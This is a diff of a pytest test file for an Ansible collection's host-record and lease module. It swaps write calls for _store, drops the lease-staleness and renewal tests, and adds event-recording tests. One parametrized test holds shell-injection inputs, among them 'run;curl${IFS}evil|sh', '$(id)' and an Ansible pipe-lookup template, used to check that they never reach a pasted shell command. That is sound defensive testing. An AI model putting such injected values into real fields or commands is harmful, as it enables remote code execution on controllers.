@@ -15,7 +15,7 @@ from ansible_collections.pgfleet.cache.plugins.module_utils._errors import Resid
 from ansible_collections.pgfleet.cache.plugins.module_utils._host_record import LARGEST, Records
 
 ALICE = {
-    "id": "a1", "owner": "alice", "controller": "ctl1", "pid": 4711, "since": "2026-11-21T06:00:00Z", "what": "rolling_restart", "silent": 600,
+    "id": "a1", "owner": "alice", "controller": "ctl1", "pid": 4711, "since": "2026-11-21T06:00:00Z", "what": "rolling_restart",
     "data_directory": "/data",
 }
 BOB = dict(ALICE, id="b1", owner="bob", controller="ctl2")
@@ -29,12 +29,6 @@ def records(tmp_path):
 
 def lease_of(records, name="db1"):
     return records.read(name)["lease"]
-
-
-def change(tmp_path, name="db1", **changed):
-    """The lease as somebody could have left it."""
-    path = tmp_path / (name + ".lease")
-    path.write_text(json.dumps(dict(json.loads(path.read_text()), **changed)))
 
 
 # --- reading ---
@@ -86,9 +80,9 @@ def test_a_directory_where_a_file_should_be(records, tmp_path):
 
 
 def test_written(records, tmp_path):
-    records.write("db1", {"state": "saved", "name": "\u00fc"})
+    records._store("db1.json", {"state": "saved", "name": "\u00fc"})
     before = os.stat(str(tmp_path / "db1.json"))
-    records.write("db1", {"state": "restarting"})
+    records._store("db1.json", {"state": "restarting"})
     after = os.stat(str(tmp_path / "db1.json"))
     assert records.read("db1") == dict(NOTHING, record={"state": "restarting"})
     assert (tmp_path / "db1.json").read_text() == '{\n  "state": "restarting"\n}\n'
@@ -99,7 +93,7 @@ def test_written(records, tmp_path):
 def test_whatever_the_mask_is_others_can_read_it(records, tmp_path):
     mask = os.umask(0o077)
     try:
-        records.write("db1", {})
+        records._store("db1.json", {})
     finally:
         os.umask(mask)
     assert stat.S_IMODE(os.stat(str(tmp_path / "db1.json")).st_mode) == 0o644
@@ -107,26 +101,26 @@ def test_whatever_the_mask_is_others_can_read_it(records, tmp_path):
 
 def test_what_an_earlier_write_has_left(records, tmp_path):
     (tmp_path / "db1.json.new").write_text("x" * 1000)
-    records.write("db1", {})
+    records._store("db1.json", {})
     assert os.listdir(str(tmp_path)) == ["db1.json"] and records.read("db1")["record"] == {}
 
 
 def test_a_write_that_fails_leaves_the_old_one(records, tmp_path, monkeypatch):
-    records.write("db1", {"state": "saved"})
+    records._store("db1.json", {"state": "saved"})
 
     def full(dummy):
         raise OSError(28, "No space left on device")
 
     monkeypatch.setattr(_host_record.os, "fsync", full)
     with pytest.raises(ResidencyError, match=r"db1.json cannot be written: No space left on device. Nothing is changed until it can be."):
-        records.write("db1", {"state": "restarting"})
+        records._store("db1.json", {"state": "restarting"})
     assert os.listdir(str(tmp_path)) == ["db1.json"] and records.read("db1")["record"] == {"state": "saved"}
 
 
 def test_a_link_is_not_written_through(records, tmp_path):
     (tmp_path / "db1.json.new").symlink_to(tmp_path / "other")
     with pytest.raises(ResidencyError, match="Too many levels of symbolic links"):
-        records.write("db1", {})
+        records._store("db1.json", {})
     assert not (tmp_path / "other").exists()
 
 
@@ -139,7 +133,7 @@ def test_a_directory_that_is_none(tmp_path):
         with pytest.raises(ResidencyError, match=r"Not a directory. Correct pgfleet_state_directory"), records.locked():
             pass
         with pytest.raises(ResidencyError, match="cannot be written"):
-            records.write("db1", {})
+            records._store("db1.json", {})
         assert "cannot be read: Not a directory" in records.read("db1")["fault"]
 
 
@@ -209,17 +203,16 @@ def test_one_at_a_time(records, tmp_path, monkeypatch):
 # --- the lease ---
 
 
-@pytest.mark.parametrize("owner", ["alice;curl${IFS}evil|sh", "$(id)", "{{ lookup('pipe', 'id') }}", "a b", "", "x" * 100])
-def test_no_command_of_a_host_is_shown(owner):
+@pytest.mark.parametrize("name", ["run;curl${IFS}evil|sh", "$(id)", "{{ lookup('pipe', 'id') }}", "a b", "", "x" * 100])
+def test_no_command_of_a_host_is_shown(name):
     """It is pasted into a shell of the controller."""
-    assert "pgfleet_take_over" not in _host_record.way_out({"owner": owner})
-    assert _host_record.way_out({"owner": "alice@example.org"}).endswith("-e pgfleet_take_over=alice@example.org.")
+    assert "pgfleet_take_over" not in _host_record.way_out({"id": name})
+    assert _host_record.way_out({"id": "run-0a1b2c3d"}).endswith("-e pgfleet_take_over=run-0a1b2c3d.")
 
 
 def test_taken_and_given_back(records):
     assert records.take("db1", ALICE) == {"held_by": None, "taken_over": None}
-    mine = lease_of(records)
-    assert {name: mine[name] for name in ALICE} == ALICE and set(mine) - set(ALICE) == {"boot", "uptime", "heartbeat"}
+    assert lease_of(records) == ALICE
     assert records.take("db1", ALICE) == {"held_by": None, "taken_over": None}, "it is ours already"
     assert records.release("db1", "b1") is False and lease_of(records)["id"] == "a1"
     assert records.release("db1", "a1") is True and lease_of(records) is None
@@ -251,69 +244,60 @@ def test_the_same_server_under_another_name(records, tmp_path):
 
 def test_two_who_are_taken_over(records, tmp_path):
     records.take("db1", ALICE)
-    records._store("other.lease", dict(ALICE, id="c1", **_host_record.clock()))
+    records._store("other.lease", dict(ALICE, id="c1"))
     assert records.take("db1", BOB, ["a1", "c1"])["held_by"] is None
     assert [one["id"] for one in records.leases()] == ["b1"]
 
 
 def test_the_first_is_taken_over_and_the_second_is_not(records):
-    records._store("aaa.lease", dict(ALICE, **_host_record.clock()))
-    records._store("zzz.lease", dict(ALICE, id="c1", owner="carol", **_host_record.clock()))
+    records._store("aaa.lease", ALICE)
+    records._store("zzz.lease", dict(ALICE, id="c1", owner="carol"))
     assert records.take("db1", BOB, ["a1"])["held_by"]["id"] == "c1"
     assert [one["id"] for one in records.leases()] == ["a1", "c1"], "nothing was changed"
-
-
-def test_silent_for_too_long(records, tmp_path):
-    records.take("db1", ALICE)
-    now = _host_record.clock()
-    change(tmp_path, uptime=now["uptime"] - 599, silent=600)
-    assert records.take("db1", BOB)["held_by"]["id"] == "a1"
-    change(tmp_path, uptime=now["uptime"] - 601)
-    assert records.take("db1", BOB)["taken_over"]["id"] == "a1"
-
-
-def test_after_a_reboot_the_time_since_the_boot_counts(records, tmp_path):
-    records.take("db1", ALICE)
-    uptime = _host_record.clock()["uptime"]
-    change(tmp_path, boot="another", uptime=1e9, silent=uptime + 100)
-    assert not _host_record.stale(lease_of(records))
-    change(tmp_path, silent=uptime / 2)
-    assert _host_record.stale(lease_of(records))
-
-
-@pytest.mark.parametrize("changed", [
-    {"silent": None}, {"silent": "never"}, {"silent": [1]}, {"uptime": "x", "silent": 0}, {"uptime": None}, {"silent": float("nan")}, {"silent": float("inf")},
-], ids=str)
-def test_what_says_nothing_sensible_is_somebodys(records, tmp_path, changed):
-    records.take("db1", ALICE)
-    change(tmp_path, **changed)
-    assert not _host_record.stale(lease_of(records)) and records.take("db1", BOB)["held_by"]
-    (tmp_path / "db1.lease").write_text(json.dumps({"id": "a1"}))
-    assert not _host_record.stale(lease_of(records))
-
-
-def test_renewed(records, tmp_path):
-    records.take("db1", ALICE)
-    change(tmp_path, uptime=1, boot="another", heartbeat="")
-    records.renew("db1", "a1", 1200)
-    mine = lease_of(records)
-    assert (mine["silent"], mine["owner"], mine["boot"]) == (1200, "alice", _host_record.clock()["boot"]) and mine["heartbeat"]
-    records.renew("db1", "a1")
-    assert lease_of(records)["silent"] == 1200
-
-
-def test_not_renewed_where_it_is_anothers(records, tmp_path):
-    records.take("db1", ALICE)
-    before = (tmp_path / "db1.lease").read_bytes()
-    with pytest.raises(ResidencyError, match=r"held by alice on ctl1 \(rolling_restart, process 4711, since 2026-11-21T06:00:00Z\): that run has to finish"):
-        records.renew("db1", "b1")
-    assert (tmp_path / "db1.lease").read_bytes() == before
-    records.release("db1", "a1")
-    with pytest.raises(ResidencyError, match=r"of this host was removed. Run the playbook again."):
-        records.renew("db1", "a1")
-    assert lease_of(records) is None
 
 
 @pytest.mark.parametrize("lease", [{}, {"owner": ["x"], "pid": {}}, {"owner": "a\x1b[2J" * 1000}])
 def test_an_owner_can_be_anything(lease):
     assert len(_host_record.owner(lease)) < 600 and "\x1b" not in _host_record.owner(lease)
+
+
+# --- the record ---
+
+
+def test_an_event(records, tmp_path):
+    records.take("db1", ALICE)
+    found = records.event("db1", "a1", "begin", {"roll": "9", "what": "host"}, ["thin"])
+    assert (found["state"], found["what"], found["remarks"]) == ("planned", "host", ["thin"]) and found == records.read("db1")["record"]
+    later = records.event("db1", "a1", "going_out", {"traffic": []}, phase="out")
+    assert later["intent"] == "going out" and later["seconds"]["out"] >= 0 and later["at"] >= found["at"], "on top of what is there"
+    assert lease_of(records) == ALICE
+
+
+def refuses(records, tmp_path, message, lease="a1", event="resumed"):
+    before = {path.name: path.read_bytes() for path in tmp_path.iterdir()}
+    with pytest.raises(ResidencyError, match=message):
+        records.event("db1", lease, event, {})
+    assert {path.name: path.read_bytes() for path in tmp_path.iterdir()} == before
+
+
+def test_an_event_of_a_run_that_has_lost_its_lease(records, tmp_path):
+    records.take("db1", ALICE)
+    refuses(records, tmp_path, r"held by alice on ctl1 \(rolling_restart, process 4711, since 2026-11-21T06:00:00Z\): that run has to finish", "b1")
+    records.release("db1", "a1")
+    refuses(records, tmp_path, r"of this host was removed. Run the playbook again.")
+
+
+def test_an_event_that_is_not_allowed(records, tmp_path):
+    records.take("db1", ALICE)
+    refuses(records, tmp_path, r"does not allow 'out' now", event="out")
+
+
+@pytest.mark.parametrize(("name", "content", "said"), [
+    ("db1.json", "{", r"db1\.json is damaged: check what was begun on the host, then remove the file\."),
+    ("db1.json", '{"state": "gone"}', r"db1\.json is damaged \(state is 'gone'\): check what was begun"),
+    ("db1.lease", "{", r"db1\.lease is damaged: check"),
+])
+def test_an_event_on_a_damaged_file(records, tmp_path, name, content, said):
+    records.take("db1", ALICE)
+    (tmp_path / name).write_text(content)
+    refuses(records, tmp_path, said)
